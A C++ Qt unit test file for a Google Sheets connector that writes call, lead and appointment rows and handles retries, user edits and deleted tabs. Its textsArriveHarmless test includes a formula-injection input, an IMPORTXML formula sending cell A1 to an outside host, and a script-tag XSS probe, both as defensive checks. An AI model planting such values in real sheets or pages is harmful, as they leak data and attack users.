// SPDX-License-Identifier: GPL-3.0-or-later
// What becomes of calls, leads and appointments in a spreadsheet that people work with.
#include "app/connect/desk/config_check.h"
#include "app/integrations/google/sheets/google_sheets.h"
#include "app/integrations/google/sheets/sheets_connector.h"
#include "tests/unit/sheet_script.h"
#include "tests/unit/sync_stage.h"

#include <QTest>

using namespace Qt::Literals::StringLiterals;
using namespace callttone;
using delivery::CallFacts;
using delivery::ConnectorVerdict;
using integrations::SyncResult;
using values::EventType;

namespace {

struct Stage
{
    explicit Stage(const QStringList &tabs = {u"Sheet1"_s})
        : sheet(tabs)
        , sync(u"google_sheets"_s, sheet.script(), tests::ScriptedSheet::id)
    {
        integrations::GoogleAddresses addresses;
        addresses.sheets = u"https://google.test/v4"_s;
        connector = integrations::sheetsConnector(addresses);
        sync.session.settings = {{u"spreadsheetId"_s, tests::ScriptedSheet::id}};
    }

    SyncResult<QString> deliver(EventType event, const CallFacts &facts, const QJsonObject &fields = {},
                                bool isAsked = false)
    {
        auto task = sync.task(event, facts, fields);
        task.isAsked = isAsked;
        task.occurredAt = occurredAt > 0 ? occurredAt : task.occurredAt;
        return connector.deliver(task);
    }
    /// As the end of a call leaves it that nobody has analysed.
    [[nodiscard]] CallFacts bare(const QString &callId = u"call_1"_s) const
    {
        CallFacts facts = sync.facts(callId);
        facts.isAnalysed = false;
        facts.keyPoints.clear();
        facts.lead = {};
        facts.call.summary.clear();
        facts.call.sentiment.clear();
        facts.call.leadScore.reset();
        return facts;
    }
    [[nodiscard]] qsizetype writes() const
    {
        return std::count_if(sync.session.requests.begin(), sync.session.requests.end(),
                             [](const connect::HttpRequest &request) { return request.method != "GET"; });
    }
    [[nodiscard]] std::optional<values::SyncRecord> record(values::SyncKind kind, const QString &subject) const
    {
        return *sync.ledger.find(kind, subject);
    }

    tests::ScriptedSheet sheet;
    tests::SyncStage sync;
    integrations::VendorConnector connector;
    core::TimeMs occurredAt = 0;
};

QJsonObject booking(const QString &start = u"2026-12-03T14:30:00-06:00"_s)
{
    const QJsonObject attendee{{u"name"_s, u"Dana Whitfield"_s}, {u"phone"_s, u"+15125550199"_s}};
    return {{u"callId"_s, u"call_1"_s},
            {u"agentName"_s, u"Sales Agent"_s},
            {u"provider"_s, u"google_calendar"_s},
            {u"appointment"_s, QJsonObject{{u"id"_s, u"apt_1"_s},
                                           {u"title"_s, u"Whitening"_s},
                                           {u"start"_s, start},
                                           {u"end"_s, u"2026-12-03T15:00:00-06:00"_s},
                                           {u"timezone"_s, u"America/Chicago"_s},
                                           {u"attendee"_s, attendee}}}};
}

const QStringList callHeaders{
    u"Call ID"_s, u"Started"_s, u"Ended"_s,     u"Direction"_s,  u"Status"_s,  u"Duration (seconds)"_s, u"From"_s,
    u"To"_s,      u"Agent"_s,   u"Sentiment"_s, u"Lead score"_s, u"Summary"_s, u"Key points"_s};

} // namespace

class TestSheetsConnector : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void wantsWhatItKeeps();
    void waitsForTheAnalysis();
    void makesTabsAndRows();
    void oneRowWhateverIsRepeated();
    void lostAnswersAreLookedUp_data();
    void lostAnswersAreLookedUp();
    void whatNeverArrivedIsMade();
    void lateAnalysisFindsTheRowAgain();
    void whatAPersonChangedStays();
    void missingColumnsAreLeftOut();
    void titlesAboveTheHeaders();
    void rowsThatWentAstrayAreStraightened();
    void whoHasNoIdColumnIsTold();
    void deletedTabsAreMadeAgain();
    void deletedRowsStayDeletedUntilReplayed();
    void deletedSheets();
    void noSheetChosen();
    void appointmentsAreMoved();
    void leadsDuringACall();
    void textsArriveHarmless_data();
    void textsArriveHarmless();
    void smallTabs();
};

void TestSheetsConnector::wantsWhatItKeeps()
{
    const Stage stage;
    QStringList wanted;
    for (const values::EventTypeInfo &info : values::allEventTypes()) {
        if (stage.connector.wants(info.type, {}))
            wanted.append(info.wire);
    }
    QCOMPARE(wanted, (QStringList{u"call.ended"_s, u"call.failed"_s, u"analysis.complete"_s, u"lead.captured"_s,
                                  u"appointment.booked"_s}));
    const QString address = u"https://docs.google.com/spreadsheets/d/%1/edit#gid=0"_s.arg(tests::ScriptedSheet::id);
    QCOMPARE(stage.connector.accountOf({}, {{u"spreadsheetId"_s, address}}), tests::ScriptedSheet::id);
    QCOMPARE(stage.connector.accountOf({}, {}), QString());
    QCOMPARE(stage.connector.pace.atOnce, 1);
}

void TestSheetsConnector::waitsForTheAnalysis()
{
    const Stage stage;
    const CallFacts known = stage.sync.facts();
    for (const EventType event : {EventType::CallEnded, EventType::CallFailed}) {
        QVERIFY(!stage.connector.isReady(event, stage.bare(), {}));
        QVERIFY(stage.connector.isReady(event, known, {}));
    }
    for (const EventType event : {EventType::AnalysisComplete, EventType::LeadCaptured, EventType::AppointmentBooked})
        QVERIFY(stage.connector.isReady(event, stage.bare(), {}));
    const auto wait = [&](const QJsonValue &minutes) {
        return stage.connector.waitMs({{u"analysisWaitMinutes"_s, minutes}});
    };
    QCOMPARE(stage.connector.waitMs({}), 600'000);
    QCOMPARE(wait(0), 0);
    QCOMPARE(wait(120), 7'200'000);
    QCOMPARE(wait(100'000), 7'200'000);
    QCOMPARE(wait(-5), 0);
    const QJsonObject schema = integrations::googleSheets({}).configSchema;
    for (const QJsonValue &minutes : {QJsonValue(0), QJsonValue(120), QJsonValue()})
        QVERIFY(connect::changedConfig({}, {{u"analysisWaitMinutes"_s, minutes}}, schema).has_value());
    for (const QJsonValue &minutes : {QJsonValue(-1), QJsonValue(121), QJsonValue(2.5), QJsonValue(u"10"_s)}) {
        const auto refused = connect::changedConfig({}, {{u"analysisWaitMinutes"_s, minutes}}, schema);
        QCOMPARE(refused.error().fields.value(0).message, u"must be a whole number from 0 to 120"_s);
    }
}

void TestSheetsConnector::makesTabsAndRows()
{
    Stage stage;
    const auto done = stage.deliver(EventType::AnalysisComplete, stage.sync.facts());
    QVERIFY2(done.has_value(), done ? "" : qPrintable(done.error().detail));
    QCOMPARE(*done, u"Row 2 of Calls, row 2 of Leads, the tab “Calls” was made, the tab “Leads” was made"_s);
    QCOMPARE(stage.sheet.rows(u"Calls"_s).value(0), QJsonArray::fromStringList(callHeaders));
    QCOMPARE(stage.sheet.rows(u"Calls"_s).size(), 2);
    const auto call = [&](const QString &header) { return stage.sheet.cell(u"Calls"_s, u"call_1"_s, header); };
    QCOMPARE(call(u"Duration (seconds)"_s), 247);
    QCOMPARE(call(u"Lead score"_s), 86);
    QCOMPARE(call(u"Status"_s), u"completed"_s);
    QCOMPARE(call(u"From"_s), u"+15125550199"_s);
    QCOMPARE(call(u"Ended"_s), core::toRfc3339(*stage.sync.facts().call.endedAt));
    QCOMPARE(call(u"Key points"_s), u"New patient\nPrefers afternoons"_s);
    QCOMPARE(stage.sheet.cell(u"Leads"_s, u"call_1"_s, u"Email"_s), u"dana@whitfield.example"_s);
    QCOMPARE(stage.sheet.cell(u"Leads"_s, u"call_1"_s, u"Company"_s), u"Whitfield & Sons"_s);
    const auto record = stage.record(values::SyncKind::CallRow, u"call_1"_s);
    QCOMPARE(record->label, u"Row 2 of Calls"_s);
    QVERIFY2(record->url.startsWith(
                 u"https://docs.google.com/spreadsheets/d/%1/edit#gid=180"_s.arg(tests::ScriptedSheet::id))
                 && record->url.endsWith(u"&range=A2"_s),
             qPrintable(record->url));

    const auto second = stage.deliver(EventType::AnalysisComplete, stage.sync.facts(u"call_2"_s));
    QCOMPARE(*second, u"Row 3 of Calls, row 3 of Leads"_s);
    QCOMPARE(stage.sheet.rows(u"Calls"_s).size(), 3);
}

void TestSheetsConnector::oneRowWhateverIsRepeated()
{
    Stage stage;
    const CallFacts facts = stage.sync.facts();
    QVERIFY(stage.deliver(EventType::AnalysisComplete, facts).has_value());
    const qsizetype requests = stage.sync.session.requests.size();
    for (const EventType event : {EventType::CallEnded, EventType::AnalysisComplete, EventType::LeadCaptured,
                                  EventType::CallFailed, EventType::AnalysisComplete}) {
        stage.occurredAt += 1'000'000'000'000; // when it happened is no news
        QCOMPARE(*stage.deliver(event, facts), u"Nothing to change"_s);
    }
    QCOMPARE(stage.sync.session.requests.size(), requests);
    QCOMPARE(*stage.deliver(EventType::AnalysisComplete, facts, {}, true), u"Nothing to change"_s);
    QCOMPARE(stage.sheet.rows(u"Calls"_s).size(), 2);
    QCOMPARE(stage.sheet.rows(u"Leads"_s).size(), 2);
}

void TestSheetsConnector::lostAnswersAreLookedUp_data()
{
    QTest::addColumn<int>("lost"); // the first so many writes: tab, headers, row
    QTest::newRow("of the tab") << 1;
    QTest::newRow("of the headers") << 2;
    QTest::newRow("of the row") << 3;
}

void TestSheetsConnector::lostAnswersAreLookedUp()
{
    QFETCH(const int, lost);
    Stage stage;
    stage.sheet.loseAnswers = lost;
    int tries = 0;
    for (auto done = SyncResult<QString>(integrations::syncFail({})); !done; ++tries) {
        QVERIFY(tries < 12);
        done = stage.deliver(EventType::CallEnded, stage.bare());
        QVERIFY(done || done.error().verdict == ConnectorVerdict::Retry);
        stage.sync.clock.advance(5'000);
    }
    QVERIFY(tries > 1);
    QCOMPARE(stage.sheet.rows(u"Calls"_s).size(), 2);
    QCOMPARE(stage.sheet.rows(u"Calls"_s).value(0), QJsonArray::fromStringList(callHeaders));
    const auto record = stage.record(values::SyncKind::CallRow, u"call_1"_s);
    QCOMPARE(record->state, values::SyncState::Done);
    QCOMPARE(record->label, u"Row 2 of Calls"_s);
}

void TestSheetsConnector::whatNeverArrivedIsMade()
{
    Stage stage({u"Calls"_s});
    stage.sheet.instead =
        [](const connect::HttpRequest &request) -> std::optional<core::Result<connect::HttpResponse>> {
        if (!request.url.contains(":append"))
            return std::nullopt;
        return tests::vendorAnswer(503, "");
    };
    QVERIFY(!stage.deliver(EventType::CallEnded, stage.bare()).has_value());
    stage.sheet.instead = {};
    const qsizetype requests = stage.sync.session.requests.size();
    const auto early = stage.deliver(EventType::CallEnded, stage.bare());
    QVERIFY(!early.has_value());
    QVERIFY(early.error().waitMs.value_or(0) > 0);
    QCOMPARE(stage.sync.session.requests.size(), requests); // what is under way may arrive yet
    stage.sync.clock.advance(*early.error().waitMs);
    QCOMPARE(*stage.deliver(EventType::CallEnded, stage.bare()), u"Row 2 of Calls"_s);
    QCOMPARE(stage.sheet.rows(u"Calls"_s).size(), 2);
}

void TestSheetsConnector::lateAnalysisFindsTheRowAgain()
{
    Stage stage;
    for (const QString &id : {u"call_1"_s, u"call_2"_s, u"call_3"_s})
        QVERIFY(stage.deliver(EventType::CallEnded, stage.bare(id)).has_value());
    // A person puts "Note" in front, moves the id to the end, turns the columns round and sorts the rows upside down.
    QList<QJsonArray> rows = stage.sheet.rows(u"Calls"_s);
    for (QJsonArray &row : rows) {
        const bool isHeader = &row == &rows.first();
        while (row.size() < callHeaders.size())
            row.append(QString());
        QJsonArray turned{isHeader ? u"Note"_s : u"asked "_s + row[0].toString()};
        for (qsizetype i = row.size() - 1; i >= 0; --i)
            turned.append(row[i]);
        row = turned;
    }
    std::reverse(rows.begin() + 1, rows.end());
    stage.sheet.setRows(u"Calls"_s, rows);

    QCOMPARE(*stage.deliver(EventType::AnalysisComplete, stage.sync.facts(u"call_1"_s)),
             u"Row 4 of Calls updated, row 2 of Leads, the tab “Leads” was made"_s);
    QCOMPARE(stage.sheet.rows(u"Calls"_s).size(), 4);
    QCOMPARE(stage.sheet.cell(u"Calls"_s, u"call_1"_s, u"Sentiment"_s), u"positive"_s);
    QCOMPARE(stage.sheet.cell(u"Calls"_s, u"call_1"_s, u"Lead score"_s), 86);
    QCOMPARE(stage.sheet.cell(u"Calls"_s, u"call_1"_s, u"Note"_s), u"asked call_1"_s);
    QCOMPARE(stage.sheet.cell(u"Calls"_s, u"call_2"_s, u"Sentiment"_s), u""_s);
    QCOMPARE(stage.record(values::SyncKind::CallRow, u"call_1"_s)->label, u"Row 4 of Calls"_s);
    // New rows follow the new order.
    QVERIFY(stage.deliver(EventType::CallEnded, stage.bare(u"call_4"_s)).has_value());
    QCOMPARE(stage.sheet.cell(u"Calls"_s, u"call_4"_s, u"Agent"_s), u"Sales Agent"_s);
    QCOMPARE(stage.sheet.rows(u"Calls"_s).value(4).last(), u"call_4"_s);
}

void TestSheetsConnector::whatAPersonChangedStays()
{
    Stage stage;
    QVERIFY(stage.deliver(EventType::CallEnded, stage.bare()).has_value());
    stage.sheet.setCell(u"Calls"_s, u"call_1"_s, u"Summary"_s, u"Spoke to her myself"_s);
    stage.sheet.setCell(u"Calls"_s, u"call_1"_s, u"Agent"_s, u"Front desk"_s);
    QVERIFY(stage.deliver(EventType::AnalysisComplete, stage.sync.facts()).has_value());
    QCOMPARE(stage.sheet.cell(u"Calls"_s, u"call_1"_s, u"Summary"_s), u"Spoke to her myself"_s);
    QCOMPARE(stage.sheet.cell(u"Calls"_s, u"call_1"_s, u"Agent"_s), u"Front desk"_s);
    QCOMPARE(stage.sheet.cell(u"Calls"_s, u"call_1"_s, u"Sentiment"_s), u"positive"_s);
    // A lost answer to a change: the second try finds it done.
    CallFacts more = stage.sync.facts();
    more.call.sentiment = u"neutral"_s;
    stage.sheet.loseAnswers = 1;
    QVERIFY(!stage.deliver(EventType::AnalysisComplete, more).has_value());
    QCOMPARE(*stage.deliver(EventType::AnalysisComplete, more), u"Nothing to change"_s);
    QCOMPARE(stage.sheet.cell(u"Calls"_s, u"call_1"_s, u"Sentiment"_s), u"neutral"_s);
}

void TestSheetsConnector::missingColumnsAreLeftOut()
{
    Stage stage;
    QVERIFY(stage.deliver(EventType::CallEnded, stage.bare()).has_value());
    QList<QJsonArray> rows = stage.sheet.rows(u"Calls"_s);
    rows[0][11] = u"What it was about"_s; // "Summary"
    rows[0][9] = u" sentiment "_s;        // still the same
    stage.sheet.setRows(u"Calls"_s, rows);
    const QString said = *stage.deliver(EventType::AnalysisComplete, stage.sync.facts());
    QVERIFY2(said.startsWith(u"Row 2 of Calls updated (“Summary” is missing, so it was left out)"_s), qPrintable(said));
    QCOMPARE(stage.sheet.rows(u"Calls"_s).value(1).at(11), u""_s);
    QCOMPARE(stage.sheet.rows(u"Calls"_s).value(1).at(9), u"positive"_s);
    QCOMPARE(stage.sheet.cell(u"Calls"_s, u"call_1"_s, u"Key points"_s), u"New patient\nPrefers afternoons"_s);
    QVERIFY(
        stage.deliver(EventType::AnalysisComplete, stage.sync.facts(u"call_2"_s))->contains(u"“Summary” is missing"_s));
    QCOMPARE(stage.sheet.rows(u"Calls"_s).value(2).at(11), QJsonValue(u""_s));
}

void TestSheetsConnector::titlesAboveTheHeaders()
{
    Stage stage({u"Calls"_s});
    stage.sheet.setRows(u"Calls"_s, {{u"Harbor Dental"_s}, {u"since 2026"_s}, QJsonArray::fromStringList(callHeaders)});
    QCOMPARE(*stage.deliver(EventType::CallEnded, stage.bare()), u"Row 4 of Calls"_s);
    QCOMPARE(stage.sheet.rows(u"Calls"_s).value(3).at(0), u"call_1"_s);
    QVERIFY(stage.sync.session.requests.last().url.contains("A3%3AM3:append"));
}

void TestSheetsConnector::rowsThatWentAstrayAreStraightened()
{
    // Notes beside the table without a header, and a column in it that is empty.
    QStringList headers = callHeaders;
    headers.insert(5, QString());
    headers.prepend(QString());
    Stage stage({u"Calls"_s});
    stage.sheet.setRows(u"Calls"_s, {QJsonArray::fromStringList(headers)});
    QVERIFY(stage.deliver(EventType::CallEnded, stage.bare()).has_value());
    const auto wholeRow = [&](const QString &id) {
        return stage.sheet.cell(u"Calls"_s, id, u"Call ID"_s) == id
               && stage.sheet.cell(u"Calls"_s, id, u"To"_s) == u"+15125550100"_s
               && stage.sheet.cell(u"Calls"_s, id, u"Agent"_s) == u"Sales Agent"_s;
    };
    QVERIFY(wholeRow(u"call_1"_s));
    stage.sheet.setCell(u"Calls"_s, u"call_1"_s, QString(), u"a note"_s);
    QVERIFY(stage.deliver(EventType::CallEnded, stage.bare(u"call_2"_s)).has_value());
    QVERIFY(wholeRow(u"call_2"_s));
    QCOMPARE(stage.sheet.rows(u"Calls"_s).value(2).size(), 11); // up to "Agent", the last one known
}

void TestSheetsConnector::whoHasNoIdColumnIsTold()
{
    Stage stage;
    QVERIFY(stage.deliver(EventType::CallEnded, stage.bare()).has_value());
    QList<QJsonArray> rows = stage.sheet.rows(u"Calls"_s);
    rows[0][0] = u"Number"_s;
    stage.sheet.setRows(u"Calls"_s, rows);
    const auto refused = stage.deliver(EventType::CallEnded, stage.bare(u"call_2"_s));
    QVERIFY(!refused.has_value());
    QCOMPARE(refused.error().verdict, ConnectorVerdict::Repair);
    QCOMPARE(refused.error().title, u"The tab “Calls” has no column “Call ID”"_s);
    QCOMPARE(stage.sheet.rows(u"Calls"_s).size(), 2);
    rows[0][0] = u"Call ID"_s;
    stage.sheet.setRows(u"Calls"_s, rows);
    QVERIFY(stage.deliver(EventType::CallEnded, stage.bare(u"call_2"_s)).has_value());
    QCOMPARE(stage.sheet.rows(u"Calls"_s).size(), 3);
}

void TestSheetsConnector::deletedTabsAreMadeAgain()
{
    Stage stage;
    QVERIFY(stage.deliver(EventType::CallEnded, stage.bare()).has_value());
    const QString tab =
        stage.record(values::SyncKind::CallRow, u"call_1"_s)->url.section(u"gid="_s, 1).section(u'&', 0, 0);
    QVERIFY(stage.sheet.book.removeTab(tab.toInt()));
    QCOMPARE(*stage.deliver(EventType::CallEnded, stage.bare(u"call_2"_s)),
             u"Row 2 of Calls, the tab “Calls” was made"_s);
    QCOMPARE(stage.sheet.rows(u"Calls"_s).size(), 2);
    const QString now = stage.record(values::SyncKind::CallRow, u"call_2"_s)->url.section(u"gid="_s, 1);
    QVERIFY(!now.startsWith(tab + u'&'));
    // What went with the tab is not put back by an analysis, but by a person who asks for it.
    const QString said = *stage.deliver(EventType::AnalysisComplete, stage.sync.facts());
    QVERIFY2(said.startsWith(u"Its row in Calls was deleted there and stays so"_s), qPrintable(said));
    QVERIFY(stage.deliver(EventType::AnalysisComplete, stage.sync.facts(), {}, true).has_value());
    QCOMPARE(stage.sheet.rows(u"Calls"_s).size(), 3);
}

void TestSheetsConnector::deletedRowsStayDeletedUntilReplayed()
{
    Stage stage;
    QVERIFY(stage.deliver(EventType::CallEnded, stage.bare()).has_value());
    stage.sheet.setRows(u"Calls"_s, {QJsonArray::fromStringList(callHeaders)});
    CallFacts facts = stage.sync.facts();
    facts.lead = {};
    QCOMPARE(*stage.deliver(EventType::AnalysisComplete, facts), u"Its row in Calls was deleted there and stays so"_s);
    QCOMPARE(stage.record(values::SyncKind::CallRow, u"call_1"_s)->label, u"Deleted row of Calls"_s);
    QCOMPARE(*stage.deliver(EventType::CallEnded, facts), u"Nothing to change"_s);
    QCOMPARE(stage.sheet.rows(u"Calls"_s).size(), 1);
    QCOMPARE(*stage.deliver(EventType::CallEnded, facts, {}, true), u"Row 2 of Calls"_s);
    QCOMPARE(*stage.deliver(EventType::CallEnded, facts, {}, true), u"Nothing to change"_s);
    QCOMPARE(stage.sheet.rows(u"Calls"_s).size(), 2);
}

void TestSheetsConnector::deletedSheets()
{
    Stage stage;
    QVERIFY(stage.deliver(EventType::CallEnded, stage.bare()).has_value());
    stage.sheet.isDeleted = true;
    const auto refused = stage.deliver(EventType::CallEnded, stage.bare(u"call_2"_s));
    QCOMPARE(refused.error().verdict, ConnectorVerdict::Repair);
    QCOMPARE(refused.error().errorClass, values::ErrorClass::TargetGone);
    QCOMPARE(refused.error().title, u"The spreadsheet was deleted or is no longer shared"_s);
    QVERIFY(refused.error().detail.contains(u"Choose another"_s));
    QVERIFY(!stage.record(values::SyncKind::CallRow, u"call_2"_s));
    stage.sheet.isDeleted = false;
    QVERIFY(stage.deliver(EventType::CallEnded, stage.bare(u"call_2"_s)).has_value());
    QCOMPARE(stage.sheet.rows(u"Calls"_s).size(), 3);
}

void TestSheetsConnector::noSheetChosen()
{
    Stage stage;
    stage.sync.session.settings = {};
    const auto refused = stage.deliver(EventType::CallEnded, stage.bare());
    QCOMPARE(refused.error().verdict, ConnectorVerdict::Repair);
    QCOMPARE(refused.error().title, u"No spreadsheet is chosen"_s);
    QVERIFY(stage.sync.session.requests.isEmpty());
}

void TestSheetsConnector::appointmentsAreMoved()
{
    Stage stage;
    const auto at = [&](const char *header) {
        return stage.sheet.cell(u"Appointments"_s, u"apt_1"_s, QString::fromLatin1(header));
    };
    stage.occurredAt = 1'796'000'000'000;
    QCOMPARE(*stage.deliver(EventType::AppointmentBooked, stage.bare(), booking()),
             u"Row 2 of Appointments, the tab “Appointments” was made"_s);
    QCOMPARE(at("Title"), u"Whitening"_s);
    QCOMPARE(at("Start"), u"2026-12-03T14:30:00-06:00"_s);
    QCOMPARE(at("Name"), u"Dana Whitfield"_s);
    QCOMPARE(at("Email"), QJsonValue(u""_s));
    QCOMPARE(at("Call ID"), u"call_1"_s);
    const QJsonValue booked = at("Booked");
    QCOMPARE(*stage.deliver(EventType::AppointmentBooked, stage.bare(), booking()), u"Nothing to change"_s);

    stage.occurredAt += 60'000;
    QCOMPARE(*stage.deliver(EventType::AppointmentBooked, stage.bare(), booking(u"2026-12-04T09:00:00-06:00"_s)),
             u"Row 2 of Appointments updated"_s);
    QCOMPARE(at("Start"), u"2026-12-04T09:00:00-06:00"_s);
    QCOMPARE(at("Booked"), booked);
    // The older news again, late: the newer stays.
    stage.occurredAt -= 60'000;
    QCOMPARE(*stage.deliver(EventType::AppointmentBooked, stage.bare(), booking()), u"Nothing to change"_s);
    QCOMPARE(at("Start"), u"2026-12-04T09:00:00-06:00"_s);
    QCOMPARE(stage.sheet.rows(u"Appointments"_s).size(), 2);
}

void TestSheetsConnector::leadsDuringACall()
{
    Stage stage;
    CallFacts live = stage.bare();
    live.hasEnded = false;
    live.lead = {u"Dana"_s, {}, {}, u"512 555 0199"_s, {}};
    QVERIFY(stage.deliver(EventType::LeadCaptured, live)->startsWith(u"Row 2 of Leads"_s));
    QVERIFY(!stage.sheet.book.hasTab(u"Calls"_s)); // the call gets its row when it is over
    QCOMPARE(stage.sheet.cell(u"Leads"_s, u"call_1"_s, u"Phone"_s), u"512 555 0199"_s);
    QVERIFY(stage.deliver(EventType::AnalysisComplete, stage.sync.facts())->contains(u"row 2 of Leads updated"_s));
    QCOMPARE(stage.sheet.cell(u"Leads"_s, u"call_1"_s, u"Last name"_s), u"Whitfield"_s);
    QCOMPARE(stage.sheet.rows(u"Leads"_s).size(), 2);
}

void TestSheetsConnector::textsArriveHarmless_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("arrived");
    const auto same = [](const char *name, const QString &text) { QTest::newRow(name) << text << text; };
    same("formula", u"=IMPORTXML(\"https://example.com/?\"&A1, \"//a\")"_s);
    same("number", u"+15551234567"_s);
    same("minus", u"-1+1"_s);
    same("at", u"@SUM(A1)"_s);
    same("quote", u"'single"_s);
    same("date", u"1/2"_s);
    same("emoji", u"Great 👩‍👩‍👧 call 🦷"_s);
    same("right to left", u"שלום ‏العربية‏ hello"_s);
    same("HTML", u"<b>&amp;</b><script>alert(1)</script>"_s);
    QTest::newRow("line ends") << u"a\r\nb\rc\n"_s << u"a\nb\nc\n"_s;
    QTest::newRow("lone surrogates") << u"x"_s + QChar(0xD83D) + u"y"_s + QChar(0xDE00) << u"x\uFFFDy\uFFFD"_s;
    QTest::newRow("60,000 characters") << QString(60'000, u'a') << QString(49'999, u'a') + u'…';
    same("as long as may be", QString(50'000, u'a'));
}

void TestSheetsConnector::textsArriveHarmless()
{
    QFETCH(const QString, text);
    QFETCH(const QString, arrived);
    Stage stage;
    CallFacts facts = stage.sync.facts();
    facts.call.summary = text;
    facts.lead.firstName = text;
    QVERIFY(stage.deliver(EventType::AnalysisComplete, facts).has_value());
    QCOMPARE(stage.sheet.cell(u"Calls"_s, u"call_1"_s, u"Summary"_s).toString(), arrived);
    QCOMPARE(stage.sheet.cell(u"Leads"_s, u"call_1"_s, u"First name"_s).toString(), arrived);
    QCOMPARE(*stage.deliver(EventType::AnalysisComplete, facts, {}, true), u"Nothing to change"_s);
}

void TestSheetsConnector::smallTabs()
{
    Stage stage({u"Calls"_s});
    stage.sheet.setRows(u"Calls"_s, {QJsonArray::fromStringList(callHeaders)});
    stage.sheet.instead =
        [](const connect::HttpRequest &request) -> std::optional<core::Result<connect::HttpResponse>> {
        if (!request.url.contains("1%3A5"))
            return std::nullopt;
        return tests::vendorAnswer(400, R"({"error":{"code":400,"status":"INVALID_ARGUMENT",
            "message":"Range ('Calls'!A1:Z5) exceeds grid limits. Max rows: 1, max columns: 26"}})");
    };
    QCOMPARE(*stage.deliver(EventType::CallEnded, stage.bare()), u"Row 2 of Calls"_s);
}

QTEST_GUILESS_MAIN(TestSheetsConnector)
#include "tst_sheets_connector.moc"
